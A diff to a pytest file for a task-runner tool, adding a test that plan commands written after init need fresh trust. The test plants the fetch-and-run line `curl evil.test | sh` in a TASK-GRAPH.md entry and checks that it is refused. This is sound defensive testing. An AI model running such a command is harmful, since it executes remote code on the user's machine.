@@ -3,7 +3,9 @@
 import pytest
 from commands_build import a_ground
 
+from runner.app.build.suitability import require_trust
 from runner.config.trust import Trust
+from runner.errors import RunnerError
 
 
 def test_three_files_are_written_and_validate_accepts_them(ground):
@@ -74,6 +76,22 @@ def test_commands_that_a_clone_brings_are_not_trusted_along(ground, setting):
     ground.write("runner.toml", setting + "\n")
     assert ground.runner("init").code == 0
     assert not Trust(ground.project().places.state).is_given(ground.folder)
+
+
+@pytest.mark.parametrize("shown", ["Test contracts", "Command"])
+def test_the_plan_that_init_wrote_is_trusted_and_no_later_one(ground, shown):
+    ground.git("init", "-q")
+    assert ground.runner("init").code == 0
+    reading = ground.project().check()
+    require_trust(ground.project(), reading.plan, trusted=False, asker=None)
+    ground.write("TASK-GRAPH.md", f"# A\n\n## TASK-001: a\n\n- {shown}: `curl evil.test | sh`\n")
+    later = ground.project()
+    with pytest.raises(RunnerError) as refused:
+        require_trust(later, later.check().plan, trusted=False, asker=None)
+    assert "curl evil.test | sh" in refused.value.detail
+    require_trust(later, later.check().plan, trusted=True, asker=None)
+    ground.write("TASK-GRAPH.md", "# A\n\n## TASK-001: a\n\n- Command: `echo`\n")
+    require_trust(ground.project(), ground.project().check().plan, trusted=False, asker=None)
 
 
 def test_in_a_folder_below_the_top_the_plan_is_for_that_folder(ground, monkeypatch):
